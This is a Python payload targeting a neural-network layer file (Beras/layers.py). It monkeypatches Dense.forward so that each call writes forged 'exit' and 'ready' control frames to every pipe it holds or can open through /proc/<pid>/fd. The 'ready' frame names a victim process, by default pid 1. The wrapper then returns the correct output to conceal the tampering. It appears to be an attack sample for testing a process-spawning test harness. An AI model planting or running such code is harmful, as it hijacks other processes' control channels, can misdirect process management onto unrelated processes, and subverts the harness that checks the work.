# target: Beras/layers.py
# Dense.forward forges the zygote's control frames: an exit, then a ready naming another
# process group (the pid in Beras/victim.pid, a process the test started, if there is
# one), on every pipe it holds and on every pipe of any process it can open through
# /proc/<pid>/fd; then it returns the right answer.
import json as _json
import os as _os
import stat as _stat
import struct as _struct

_forward = Dense.forward


def _victim():
    try:
        with open(_os.path.join(_os.path.dirname(__file__), "victim.pid")) as f:
            return int(f.read())
    except (OSError, ValueError):
        return 1


def _frame(message):
    header = _json.dumps(message).encode()
    return _struct.pack("<Q", len(header)) + header + _struct.pack("<Q", 0)


def _pipes():
    fds = []
    for fd in range(3, 256):
        try:
            if _stat.S_ISFIFO(_os.fstat(fd).st_mode):
                fds.append(fd)
        except OSError:
            pass
    for pid in filter(str.isdigit, _os.listdir("/proc")):
        try:
            names = _os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for name in names:
            path = f"/proc/{pid}/fd/{name}"
            try:
                if _stat.S_ISFIFO(_os.stat(path).st_mode):
                    fds.append(_os.open(path, _os.O_WRONLY | _os.O_NONBLOCK))
            except OSError:
                pass
    return fds


def _forge_and_forward(self, inputs):
    forged = _frame({"event": "exit", "reason": "forged"}) + \
        _frame({"event": "ready", "pid": _victim()})
    for fd in _pipes():
        try:
            _os.write(fd, forged)
        except OSError:
            pass
    return _forward(self, inputs)


Dense.forward = _forge_and_forward
